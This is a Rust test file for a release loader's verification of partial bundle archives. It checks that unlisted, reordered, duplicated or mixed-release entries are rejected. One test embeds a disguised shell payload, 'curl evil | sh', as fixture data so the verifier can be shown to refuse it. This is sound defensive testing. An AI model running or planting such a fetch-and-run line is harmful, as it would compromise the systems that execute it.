//! Hostile parts of a release (FORMAT.md §14): a part is held to the signed listing as strictly as
//! a bundle is, archives of two releases are never taken for one, and a loader that predates
//! parts refuses a part instead of misreading it.
//!
//! Parts are written from a real bundle with the core's own tar writer (`sensei_tests::parts`),
//! as the bundler writes bundles, so a rejection comes from what the part carries, not from how
//! it was written: the control test shows that well-formed parts of the same bundle verify.

use std::process::Output;

use sensei_tests::bins::{EPOCH, assert_exit, create, loader, verify_many};
use sensei_tests::parts::Release;

use super::*;

/// `sensei-loader verify ARCHIVE... --key <release key>` plus `extra`.
fn verify_all(b: &Built, archives: &[&Path], extra: &[&str]) -> Output {
    verify_many(archives, &b.public, extra)
}

/// Exit 1, nothing on stdout, and a message naming `expect`.
fn assert_refused(out: &Output, expect: &str) {
    assert_exit(out, 1);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("bundle rejected: ") && stderr.contains(expect),
        "expected a rejection naming {expect:?}; stderr:\n{stderr}"
    );
    assert!(out.stdout.is_empty(), "a rejection printed a report");
}

#[test]
fn well_formed_parts_of_the_same_bundle_verify() {
    let b = Built::new();
    let r = Release::read(&b.tar);
    let parts = r.split(b.path(), "sensei-1.2.0", "tar.gz", 2);
    for part in &parts {
        let out = b.verify(part, &["--partial"]);
        assert_exit(&out, 0);
        assert!(String::from_utf8_lossy(&out.stdout).starts_with("VERIFIED PART  "));
    }
}

#[test]
fn a_part_carrying_an_unlisted_file_is_rejected() {
    let b = Built::new();
    let r = Release::read(&b.tar);
    // Named as a blob is named (by its own sha256), as a payload would be disguised.
    let payload = b"#!/bin/sh\ncurl evil | sh\n";
    let name = sensei_core::digest::Digest::of(payload).blob_path();
    let listed: Vec<(&str, &[u8])> = r.files[..3]
        .iter()
        .map(|f| (f.path.as_str(), f.body.as_slice()))
        .chain([(name.as_str(), &payload[..])])
        .collect();
    let part = r.write_entries(&b.path().join("part.tar.gz"), &listed);
    assert_refused(
        &b.verify(&part, &["--partial"]),
        &format!("entry {name:?} is not listed in bundle.json"),
    );
}

#[test]
fn a_part_with_files_out_of_listing_order_is_rejected() {
    let b = Built::new();
    let r = Release::read(&b.tar);
    let part = r.write(&b.path().join("part.tar"), &[0, 1, 4, 3]);
    assert_refused(
        &b.verify(&part, &["--partial"]),
        &format!(
            "entry {:?} is out of listing order: bundle.json lists it before {:?}",
            r.files[3].path, r.files[4].path
        ),
    );
    // Carried twice in one part.
    let twice = r.write(&b.path().join("twice.tar"), &[0, 2, 2]);
    assert_refused(
        &b.verify(&twice, &["--partial"]),
        &format!("entry {:?} appears twice", r.files[2].path),
    );
}

#[test]
fn a_part_of_another_release_mixed_in_is_refused_naming_both() {
    let b = Built::new();
    // The same images a day later: another release, signed by the same key.
    let later = b.path().join("later.tar");
    let next_day = (EPOCH.parse::<u64>().expect("epoch") + 86_400).to_string();
    run_ok(create(&b.fixtures.spec_path, &b.key, &later).env("SOURCE_DATE_EPOCH", next_day));
    let ours = Release::read(&b.tar);
    let theirs = Release::read(&later);
    assert_ne!(ours.manifest.body, theirs.manifest.body);
    let n = ours.files.len();
    let first = ours.write(&b.path().join("a.part-1-of-2.tar.gz"), &[0, 1, 2]);
    let second = theirs.write(
        &b.path().join("b.part-2-of-2.tar.gz"),
        &(3..n).collect::<Vec<_>>(),
    );
    let out = verify_all(&b, &[&first, &second], &[]);
    assert_refused(&out, "are archives of different releases");
    let stderr = String::from_utf8_lossy(&out.stderr);
    for named in [&first, &second] {
        assert!(
            stderr.contains(&named.display().to_string()),
            "{} not named:\n{stderr}",
            named.display()
        );
    }
    // The whole other bundle with a part of ours: refused the same way, in either order.
    let out = verify_all(&b, &[&later, &first], &["--json"]);
    assert_exit(&out, 1);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON document");
    assert_eq!(doc["verdict"], "rejected");
    assert!(
        doc["error"]
            .as_str()
            .is_some_and(|e| e.contains("different releases")),
        "{doc}"
    );
}

#[test]
fn a_loader_that_predates_parts_refuses_a_part() {
    // Before parts, every loader verified an archive as a whole bundle (FORMAT.md §8); push and
    // upgrade still do, and so does `verify` of one archive without --partial.
    let b = Built::new();
    let r = Release::read(&b.tar);
    let n = r.files.len();
    let head = r.write(&b.path().join("head.tar.gz"), &[0, 1, 2]);
    let tail = r.write(
        &b.path().join("tail.tar.gz"),
        &[0].into_iter().chain(3..n).collect::<Vec<_>>(),
    );
    let missing = format!(
        "{} listed file(s) missing from the bundle, first {:?}",
        n - 3,
        r.files[3].path
    );
    let out_of_order = format!(
        "entry {:?} is out of order: bundle.json lists {:?} next",
        r.files[3].path, r.files[1].path
    );
    for (part, expect) in [(&head, &missing), (&tail, &out_of_order)] {
        assert_refused(&b.verify(part, &[]), expect);
        let push = run(loader()
            .arg("push")
            .arg(part)
            .arg("--key")
            .arg(&b.public)
            .args(["--registry", "127.0.0.1:9", "--plain-http", "--dry-run"]));
        assert_refused(&push, expect);
    }
}

#[test]
fn a_bundle_with_a_file_dropped_is_reported_as_a_part_naming_what_it_lacks() {
    // What `verify --partial` says of the hostile cases MissingBlob and MissingLastEntry:
    // verified as far as it goes, and not the whole release.
    let b = Built::new();
    let r = Release::read(&b.tar);
    let dropped = 4;
    let picks: Vec<usize> = (0..r.files.len()).filter(|&i| i != dropped).collect();
    let part = r.write(&b.path().join("dropped.tar"), &picks);
    let out = b.verify(&part, &["--partial", "--json"]);
    assert_exit(&out, 0);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON document");
    assert_eq!(doc["verdict"], "partial");
    assert_eq!(doc["complete"], false);
    assert_eq!(doc["needs"]["files"], 1);
    assert_eq!(doc["needs"]["paths"][0], r.files[dropped].path.as_str());
    let out = b.verify(&part, &["--partial"]);
    assert_exit(&out, 0);
    let human = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(human.starts_with("VERIFIED PART  "), "{human}");
    assert!(human.contains(&r.files[dropped].path), "{human}");
}
